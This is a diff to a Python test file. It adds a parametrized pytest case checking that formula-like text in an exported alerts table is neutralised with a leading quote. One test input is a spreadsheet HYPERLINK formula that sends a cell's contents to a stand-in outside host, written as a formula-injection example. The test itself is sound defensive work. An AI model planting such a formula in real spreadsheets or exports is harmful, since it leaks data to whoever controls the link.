@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from datetime import UTC, datetime
+
 import pandas as pd
 import pytest
 from hypothesis import given
@@ -61,6 +63,13 @@ ALL_TABLES = [value for value in vars(tables).values() if isinstance(value, tabl
 @pytest.mark.parametrize("table", ALL_TABLES, ids=lambda table: table.columns[0].label)
 def test_every_column_that_a_table_shows_is_declared_and_none_is_secret(table: tables.Table) -> None:
     assert [c.column for c in table.columns if privacy_of(table.schema, c.column) in (None, Privacy.SECRET)] == []
+
+
+@pytest.mark.parametrize("formula", ['=HYPERLINK("https://x.example/?"&A2,"log")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
+def test_a_strangers_formula_is_text_in_a_table_that_somebody_takes_along(formula: str) -> None:
+    frame = frames.frame(frames.ALERTS, [{"sid": "NO1", "text": formula, "created_at": datetime.now(UTC)}])
+    cell = for_glass(frame, frames.ALERTS, sharing=False).loc[0, "text"]
+    assert cell.startswith("'") and cell.endswith(formula.strip()[-3:])
 
 
 def test_text_from_outside_is_one_redacted_line_without_hidden_characters() -> None:
